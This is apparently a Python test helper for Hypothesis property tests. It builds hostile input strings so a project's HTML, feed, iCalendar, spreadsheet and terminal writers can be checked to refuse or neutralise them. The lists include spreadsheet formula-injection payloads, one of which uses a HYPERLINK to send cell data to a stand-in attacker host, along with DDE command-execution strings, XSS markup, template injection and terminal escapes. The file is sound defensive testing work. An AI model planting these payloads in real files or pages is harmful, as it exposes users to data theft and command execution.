"""Hostile strings for property tests: what an attacker, a careless paste or another system
puts into any text the project reads (a record, a sheet cell, a commit's author, a log line).

Every writer (pages, feeds, iCalendar, workbooks, OpenSearch bulk, the search-report page,
the terminal) must either see such a string refused at its source or carry it inertly.
"""

from __future__ import annotations

from hypothesis import strategies as st

# C0 and C1 control characters other than tab, line feed and carriage return, and DEL.
CONTROL = tuple(chr(c) for c in [*range(0x00, 0x09), 0x0B, 0x0C, *range(0x0E, 0x20), 0x7F, *range(0x80, 0xA0)])
# Everything a reader, a parser or a format may take as the end of a line.
LINE_BREAKS = ("\n", "\r", "\r\n", "\x0b", "\x0c", "\x85", "\u2028", "\u2029")
# What a spreadsheet program evaluates at the start of a cell (OWASP's CSV injection list),
# with the full-width forms a Chinese input method types.
FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
FORMULAS = (
    '=HYPERLINK("http://attacker.example/?"&A1,"详情")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C notepad'!A1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",
    "=1+1",
)
# Personal data the checks must refuse in every form (a mobile number, an ID-card number with
# its checksum, e-mail addresses).
PERSONAL_DATA = (
    "13812345678",
    "+86 138-1234-5678",
    "１３８１２３４５６７８",
    "11010519491231002X",
    "zhang.san@example.com",
    "zhang at example dot com",
    "张三＠例子.中国",
)
# Terminal escapes: colour, a window title ending in BEL, a bare BEL and ESC.
TERMINAL_ESCAPES = ("\x1b[31m", "\x1b]0;owned\x07", "\x07", "\x1b", "\x9b2J")
# Markup of the formats written: HTML, XML (feeds), iCalendar, JSON, Markdown, YAML.
MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "]]>",
    "&amp;",
    "\\",
    '"',
    "END:VEVENT\r\nBEGIN:VEVENT",
    '{"index":{}}',
    "[x](javascript:alert(1))",
    "*&a",
    "{{ 7*7 }}",
)
PLAIN = ("液压站压力掉", "AL-3002", "HX VB 220", "正常文字", "a", " ")

PIECES = CONTROL + LINE_BREAKS + FORMULA_PREFIXES + FORMULAS + PERSONAL_DATA + TERMINAL_ESCAPES + MARKUP + PLAIN


def hostile_text(max_pieces: int = 6) -> st.SearchStrategy[str]:
    """A string made of hostile pieces and arbitrary characters, never empty."""
    piece = st.one_of(st.sampled_from(PIECES), st.text(max_size=4))
    return st.lists(piece, min_size=1, max_size=max_pieces).map("".join).filter(bool)


def hostile_line(max_pieces: int = 6) -> st.SearchStrategy[str]:
    """A hostile string that starts like a formula or a control, the worst place for one."""
    start = st.sampled_from(FORMULA_PREFIXES + CONTROL + TERMINAL_ESCAPES + LINE_BREAKS)
    return st.tuples(start, hostile_text(max_pieces)).map("".join)
